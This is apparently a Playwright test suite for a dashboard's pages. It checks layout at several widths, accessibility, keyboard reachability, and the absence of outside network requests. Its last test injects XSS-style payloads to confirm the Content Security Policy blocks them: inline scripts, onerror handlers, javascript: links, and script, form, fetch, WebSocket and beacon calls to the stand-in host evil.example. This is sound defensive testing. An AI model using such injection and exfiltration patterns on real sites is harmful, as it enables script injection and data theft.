"""Every page of the board over a root like the demo's, in real Chromium: how it looks at three widths in both themes, that axe finds
nothing serious, that every control has a name and is reached by Tab, and that nothing is asked of another machine.

A page of a kind and a tab of a run that are added are walked with the others. The pictures lie in ``build/screenshots``
(or CROSSBOARD_SCREENSHOTS); tests/browser.py fails a page that writes an error to the console or asks anything of another place.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import TYPE_CHECKING, Any
from urllib.parse import urlencode

import pytest

import mixed_root
from browser import Board, Open, below, faults, settle, until
from crossboard.store.kinds import Kind

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.browser

SCREENSHOTS = Path(os.environ.get("CROSSBOARD_SCREENSHOTS") or Path(__file__).resolve().parents[1] / "build" / "screenshots")
WIDTHS = {390: 844, 1440: 900, 2560: 1440}
CONTROLS = frozenset(
    ["button", "link", "textbox", "searchbox", "combobox", "checkbox", "radio", "tab", "menuitem", "slider", "switch", "spinbutton"]
)
"""Roles of what a person can use, as the browser tells assistive technology (WAI-ARIA 1.2)."""
MOST_STOPS = 400
DAMAGED = ("422 (Unprocessable", "404 (Not Found)")
"""The browser's own words on what is damaged on purpose in `every_kind`."""


@pytest.fixture(scope="module")
def browser(chromium: str, chromium_arguments: list[str], tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """Chromium under its own log of everything that goes to the network, workers' requests and the browser's own too. At the end no
    page of ours may have asked anything of another machine."""
    from playwright.sync_api import sync_playwright

    netlog = tmp_path_factory.mktemp("net") / "log.json"
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=[*chromium_arguments, f"--log-net-log={netlog}"])
        yield browser
        browser.close()
    asked = asked_by_pages(netlog)
    assert any(url.endswith("/api/events") for url in asked), "the log is blind: it has not seen the event stream of the shared worker"
    assert [url for url in asked if not url.startswith("http://127.0.0.1:")] == []


def asked_by_pages(netlog: Path) -> list[str]:
    """URLs that pages and their workers asked for; what Chromium asks of its maker for itself comes from no origin."""
    log = json.loads(netlog.read_text(encoding="utf-8"))
    started = log["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    found = [event.get("params") or {} for event in log["events"] if event["type"] == started]
    return [str(one["url"]) for one in found if one.get("initiator", "not an origin") != "not an origin"]


@pytest.fixture(scope="module")
def board(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Board]:
    shutil.rmtree(SCREENSHOTS, ignore_errors=True)  # of an earlier time
    root, paths, live = mixed_root.make(tmp_path_factory.mktemp("mixed"))
    with Board(root, tmp_path_factory.mktemp("cache"), runs=mixed_root.RUNS, paths=paths) as made:
        yield made
    live.finish()


@pytest.fixture
def open_page(open_page: Open, board: Board) -> Open:
    return below(open_page, board.url, expected=DAMAGED)


KINDS = re.findall(r"\{page: '(\w+)'", (Path(__file__).parents[1] / "dashboard/assets/15-kind-pages.js").read_text(encoding="utf-8"))
TABS = ("overview", "charts", "console", "system", *sorted({kind.value for kind in Kind} - {"scalar", "config", "event"}))
PAGES = ("charts", "runs", *KINDS, "panes", *(f"run-{tab}" for tab in TABS))
"""Every page of the top bar and every tab of a run; `mixed_root` has something for each."""
WHOLE = ("run-overview", "run-image")
"""Tabs of a run of which every width is drawn."""


def query_of(board: Board, name: str) -> str:
    """The query of a page."""
    if name in ("charts", "runs", *KINDS):
        return "" if name == "charts" else f"?page={name}"
    runs = board.ask("api/runs")["runs"]
    if name == "panes":
        return "?" + urlencode({"page": "panes", "env": next(run["key"] for run in runs if run["panes"])})
    tab = name.removeprefix("run-")
    one = next(run["key"] for run in runs if run["name"] == "resnet20-sgd s0")
    return "?" + urlencode({"run": one, **({} if tab == "overview" else {"tab": tab})})


# ------------------------------------------------------------------------------------------------------------- looks


@pytest.mark.parametrize("name", PAGES)
def test_a_page_fits_axe_finds_nothing_serious_and_every_control_has_a_name_and_is_reached(
    name: str, board: Board, open_page: Open
) -> None:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    wrong: dict[str, Any] = {}
    page = open_page(query_of(board, name))
    for scheme in ("light", "dark"):
        chosen: Any = scheme
        page.emulate_media(color_scheme=chosen)
        until(page, f"document.documentElement.dataset.mantineColorScheme === {scheme!r}")
        for width, height in WIDTHS.items():
            if name.startswith("run-") and name not in WHOLE and width != 1440 and (width, scheme) != (390, "light"):
                continue  # the tabs of a run differ in their panels only
            page.set_viewport_size({"width": width, "height": height})
            settle(page)
            page.screenshot(path=SCREENSHOTS / f"{name}-{width}-{scheme}.png")
            if page.evaluate("document.documentElement.scrollWidth") > width:
                wrong[f"{width} wide"] = "wider than the screen"
            found = faults(page) if width == 1440 else []
            if found:
                wrong[f"{width} wide, {scheme}"] = found
    page.set_viewport_size({"width": 1440, "height": 900})
    settle(page)
    told = controls(page)
    assert len(told) > 10
    assert [role for role, words in told if not words.strip()] == []
    assert page.evaluate(MARK) > 10
    assert page.evaluate(NOT_REACHED, reached_by_tab(page)) == []
    assert wrong == {}


def test_the_top_bar_leads_to_no_page_that_is_not_walked_here(open_page: Open) -> None:
    page = open_page("")
    until(page, "crossboard.kindNav.available().length > 0")
    if page.locator("#nav-more").count():
        page.locator("#nav-more").click()
    links = "[...document.querySelectorAll('nav a[id^=nav-], [role=menu] a[href*=page]')]"
    found = page.evaluate(f"{links}.map(a => new URLSearchParams(a.search).get('page') || 'charts')")
    assert {*found} - {*PAGES} == set()
    assert {"charts", "runs", "images"} <= {*found}


# ---------------------------------------------------------------------------------------------------------- controls


def controls(page: Page) -> list[tuple[str, str]]:
    """(role, name) of every control that assistive technology is told of."""
    session = page.context.new_cdp_session(page)
    nodes = session.send("Accessibility.getFullAXTree")["nodes"]
    session.detach()
    told = [
        (str(node.get("role", {}).get("value", "")), str(node.get("name", {}).get("value", ""))) for node in nodes if not node["ignored"]
    ]
    return [one for one in told if one[0] in CONTROLS]


MARK = """(() => {
  const shown = e => e.checkVisibility({checkVisibilityCSS: true}) && e.getClientRects().length && !e.closest('[inert], [aria-hidden]');
  const all = document.querySelectorAll('a[href], button, input, select, textarea, summary, [tabindex], [role=button], [role=slider]');
  let n = 0;
  for (const e of all) if (!e.disabled && shown(e)) e.dataset.walk = n++;
  return n;
})()"""

NOT_REACHED = """reached => {
  const was = new Set(reached), of = e => [...e.querySelectorAll('[data-walk]'), e].some(one => was.has(one.dataset.walk));
  const roles = ['tablist', 'menu', 'listbox', 'radiogroup', 'grid', 'treegrid', 'toolbar'];
  const walkers = '#rail [role=list], ' + roles.map(role => `[role=${role}]`);
  return [...document.querySelectorAll('[data-walk]:not([role=presentation])')].filter(e => {
    if (was.has(e.dataset.walk)) return false;
    if (e.type === 'radio') return !of(e.closest('[role=radiogroup], fieldset') || e);
    const walker = e.closest(walkers);                      // arrow keys walk in these, and Tab comes to one place of them
    if (walker) return !of(walker);
    return e.tabIndex >= 0 || e.matches('a[href], button, input, select, textarea');   // else it is there for the pointer alone
  }).map(e => e.outerHTML.slice(0, 160));
}"""


def reached_by_tab(page: Page) -> list[str]:
    """Marks of everything that Tab comes to, from the top of the page until it leaves it; what was drawn anew meanwhile gets one."""
    page.evaluate("document.activeElement.blur()")
    found: list[str] = []
    for _ in range(MOST_STOPS):
        page.keyboard.press("Tab")
        mark = page.evaluate("(e => e === document.body ? null : e.dataset.walk ||= `new ${Math.random()}`)(document.activeElement)")
        if mark is None:
            return found
        found.append(mark)
    raise AssertionError(f"Tab does not leave the page within {MOST_STOPS} stops")


def test_arrows_walk_over_every_run_and_heading_of_the_rail_and_keys_do_what_its_buttons_do(open_page: Open) -> None:
    page = open_page("")
    rows = page.evaluate("document.querySelectorAll('#rail .rr').length")
    page.locator("#rail .rr .run[tabindex='0'], #rail [role=list] [tabindex='0']").first.focus()
    page.keyboard.press("Home")
    names = []
    for _ in range(rows + 8):
        names.append(
            page.evaluate("document.activeElement.closest('.rr')?.querySelector('.name').textContent || document.activeElement.innerText")
        )
        page.keyboard.press("ArrowDown")
    assert len(set(names)) >= rows + 3  # with the headings of frameworks and formats
    before = page.evaluate("crossboard.board.visible.length")
    page.keyboard.press("h")
    until(page, f"crossboard.board.visible.length < {before}")
    page.keyboard.press("h")
    until(page, f"crossboard.board.visible.length === {before}")


def test_the_pages_policy_holds_against_what_a_run_could_bring(board: Board, open_page: Open) -> None:
    page = open_page("", broken=True)
    tried = page.evaluate(
        """async () => {
          const said = [], told = {};
          document.addEventListener('securitypolicyviolation', event => said.push(event.effectiveDirective));
          await new Promise(done => setTimeout(() => {   // outside of what the test itself evaluates, where the browser lets all run
            try { (0, eval)('1'); told.eval = 'ran'; } catch (error) { told.eval = error.name; }
            try { new Function('return 1')(); told.function = 'ran'; } catch (error) { told.function = error.name; }
            try { setTimeout('window.ran = 1', 0); } catch { /* said or silent, it must not run */ }
            done();
          }, 0));
          const put = html => { const div = document.createElement('div'); div.innerHTML = html; document.body.append(div); return div; };
          const script = document.createElement('script');
          script.textContent = 'window.inline = 1';
          document.body.append(script);
          put('<img src="x" onerror="window.handler = 1">');
          put('<img src="http://evil.example/pixel.png">');
          put('<iframe src="http://evil.example/"></iframe>');
          put('<object data="http://evil.example/"></object>');
          put('<a id="trap" href="javascript:window.link = 1">x</a>').firstChild.click();
          const other = document.createElement('script');
          other.src = 'http://evil.example/a.js';
          document.body.append(other);
          const style = document.createElement('link');
          Object.assign(style, {rel: 'stylesheet', href: 'http://evil.example/a.css'});
          document.head.append(style);
          const base = document.createElement('base');
          base.href = 'http://evil.example/';
          document.head.append(base);
          const form = put('<form action="http://evil.example/" method="post" target="_blank"></form>').firstChild;
          form.submit();
          for (const [name, ask] of Object.entries({
            fetch: () => fetch('http://evil.example/'),
            socket: () => new Promise((yes, no) => {
              const s = new WebSocket('ws://evil.example/');
              s.onerror = () => no(TypeError());
              s.onopen = yes;
            }),
            stream: () => new Promise((yes, no) => {
              const s = new EventSource('http://evil.example/');
              s.onerror = () => { s.close(); no(TypeError()); };
              s.onopen = yes;
            }),
            worker: () => new Promise((yes, no) => {
              const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])));
              w.onmessage = yes;
              w.onerror = () => no(TypeError());
            }),
          })) await Promise.resolve().then(ask).then(() => { told[name] = 'went'; }, error => { told[name] = error.constructor.name; });
          navigator.sendBeacon('http://evil.example/', 'x');
          await new Promise(done => setTimeout(done, 300));
          const ran = [window.ran, window.inline, window.handler, window.link];
          return {told, said: [...new Set(said)].sort(), ran, base: document.baseURI};
        }"""
    )
    assert tried["told"] == {
        "eval": "EvalError",
        "function": "EvalError",
        "fetch": "TypeError",
        "socket": "TypeError",
        "stream": "TypeError",
        "worker": "TypeError",
    }
    assert [one for one in tried["ran"] if one] == []
    assert tried["base"].startswith(board.url)
    wanted = {
        "base-uri",
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "object-src",
        "script-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-elem",
        "worker-src",
    }
    assert wanted <= set(tried["said"])
    assert page.evaluate("document.visibilityState") == "visible"  # nothing led away
